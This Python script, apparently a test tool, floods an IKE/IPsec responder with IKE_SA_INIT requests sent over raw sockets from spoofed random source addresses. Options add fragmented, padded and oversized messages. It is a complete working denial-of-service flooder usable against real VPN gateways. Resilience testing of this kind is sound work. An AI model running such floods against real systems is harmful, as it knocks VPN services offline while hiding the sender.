#!/usr/bin/env python3
"""IKE_SA_INIT flood from spoofed sources (run inside a test namespace).

    flood.py DST_IP SRC_NET_PREFIX RATE SECONDS [PAD [OVERSIZE_EVERY]]

Sends well-formed IKE_SA_INIT requests (AES-256-GCM, PRF-SHA256, X25519,
random KE and nonce, a new SPI each) to DST_IP:500 from random source
addresses in SRC_NET_PREFIX.0.0/16, at about RATE packets/s for SECONDS.
With PAD, each request also carries a status notify of an unassigned type
with PAD bytes (large messages, sent as IP fragments the receiver
reassembles); with OVERSIZE_EVERY, every Nth request is padded to 12,000
bytes, above the responder's IKE message limit. Prints how many it sent
and the rate achieved.
"""
import os
import socket
import struct
import sys
import time


def ike_sa_init(spi_i, pad=0):
    tr = [
        struct.pack(">BBHBBH", 3, 0, 12, 1, 0, 20) + struct.pack(">HH", 0x800E, 256),  # ENCR AES-GCM-16 256
        struct.pack(">BBHBBH", 3, 0, 8, 2, 0, 5),  # PRF HMAC-SHA2-256
        struct.pack(">BBHBBH", 0, 0, 8, 4, 0, 31),  # DH X25519
    ]
    body = b"".join(tr)
    prop = struct.pack(">BBHBBBB", 0, 0, 8 + len(body), 1, 1, 0, 3) + body
    sa = struct.pack(">BBH", 34, 0, 4 + len(prop)) + prop
    ke = struct.pack(">BBHHH", 40, 0, 8 + 32, 31, 0) + os.urandom(32)
    nonce = struct.pack(">BBH", 41 if pad else 0, 0, 4 + 32) + os.urandom(32)
    payload = sa + ke + nonce
    if pad:
        # Notify: protocol 0, no SPI, type 40000 (unassigned status type).
        payload += struct.pack(">BBHBBH", 0, 0, 8 + pad, 0, 0, 40000) + b"\x5a" * pad
    hdr = struct.pack(">QQBBBBII", spi_i, 0, 33, 0x20, 34, 0x08, 0, 28 + len(payload))
    return hdr + payload


def ip_packets(src, dst_b, udp):
    """The UDP datagram as IPv4 packets of at most 1500 bytes (fragments)."""
    ident = int.from_bytes(os.urandom(2), "big")
    chunk = 1480
    out = []
    for off in range(0, len(udp), chunk):
        part = udp[off:off + chunk]
        more = 0x2000 if off + chunk < len(udp) else 0
        flags = (0x4000 if len(udp) <= chunk else more) | (off // 8)
        out.append(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(part), ident, flags, 64, 17, 0, src, dst_b) + part)
    return out


def main():
    dst, prefix, rate, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
    pad = int(sys.argv[5]) if len(sys.argv) > 5 else 0
    oversize_every = int(sys.argv[6]) if len(sys.argv) > 6 else 0
    a, b = (int(x) for x in prefix.split(".")[:2])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dst_b = socket.inet_aton(dst)
    sent, start = 0, time.monotonic()
    while time.monotonic() - start < seconds:
        for _ in range(100):
            r = os.urandom(10)
            src = bytes([a, b, r[0], r[1] or 1])
            big = oversize_every and sent % oversize_every == 0
            ike = ike_sa_init(int.from_bytes(r[2:10], "big") or 1, 12000 if big else pad)
            udp = struct.pack(">HHHH", 500, 500, 8 + len(ike), 0) + ike
            for ip in ip_packets(src, dst_b, udp):
                s.sendto(ip, (dst, 0))
            sent += 1
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
    took = time.monotonic() - start
    print("flood: %d IKE_SA_INIT in %.1f s = %.0f/s" % (sent, took, sent / took))


if __name__ == "__main__":
    main()
